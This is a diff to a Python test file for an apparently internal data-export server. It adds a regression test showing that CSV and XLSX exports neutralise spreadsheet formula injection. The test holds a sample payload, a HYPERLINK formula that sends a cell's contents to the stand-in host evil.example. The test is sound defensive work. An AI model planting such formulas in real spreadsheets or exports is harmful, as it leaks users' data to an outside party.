@@ -9,6 +9,8 @@ engine, so the file stays fast (no catalog build).
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import threading
 from pathlib import Path
@@ -16,12 +18,14 @@ from pathlib import Path
 import pytest
 import yaml
 from click.testing import CliRunner
+from openpyxl import load_workbook
 from tornado.httpclient import HTTPClientError
 
 from lab.cli import cli
 from lab.server.auth import OrderLensIdentityProvider
 from lab.server.errors import TooManyRequests, http_status_of
 from lab.server.feedback import FeedbackLog
+from lab.server.presentation import export_table
 from lab.server.saved import SavedQuestions
 from lab.server.users import Role, UserStore
 
@@ -230,3 +234,17 @@ async def test_the_sign_in_page_runs_no_script(jp_fetch) -> None:
     assert "default-src 'none'" in policy and "form-action 'self'" in policy
     assert "script-src" not in policy  # default-src 'none' covers scripts: none may run
     assert "<script" not in page.body.decode()
+
+
+def test_exported_text_that_looks_like_a_formula_stays_text() -> None:
+    """Before: a warehouse value ``=HYPERLINK(...)`` was a live formula in the XLSX export and
+    a raw ``=`` cell in the CSV (spreadsheet formula injection through ingested text)."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [[hostile, 3], ["@SUM(1+1)", -2], ["京东", 5]]
+    text = export_table(["name", "n"], rows, "csv").decode("utf-8-sig")
+    got = list(csv.reader(io.StringIO(text)))
+    assert got[1:] == [["'" + hostile, "3"], ["'@SUM(1+1)", "-2"], ["京东", "5"]]
+    sheet = load_workbook(io.BytesIO(export_table(["name", "n"], rows, "xlsx"))).active
+    first = sheet["A2"]
+    assert (first.value, first.data_type) == (hostile, "s")
+    assert (sheet["B3"].value, sheet["A4"].value) == (-2, "京东")
